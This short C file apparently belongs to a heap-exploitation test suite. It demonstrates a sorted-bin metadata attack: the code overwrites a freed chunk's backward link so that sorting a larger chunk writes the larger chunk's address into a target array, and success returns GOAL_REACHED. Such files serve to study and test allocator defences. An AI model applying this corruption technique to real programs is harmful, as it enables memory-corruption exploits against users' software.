/*
 * metadata: a chunk in a sorted bin has its backward link changed. A larger chunk that is sorted in
 * before it stores its own address where that link says.
 */
#include "attack.h"

static Word limit[4] = {16};

int main(void) {
  settle(2016);
  Word *small = allocate(2000);
  allocate(40);
  Word *large = allocate(2016);
  allocate(40);
  release((void *)small);
  allocate(4000);                             /* sorts the small one into its bin */
  small[1] = (uint64_t)(uintptr_t)limit - 16; /* bk */
  release((void *)large);
  allocate(5000);                             /* sorts the large one */
  return limit[0] > 0x1000 ? GOAL_REACHED : 0;
}
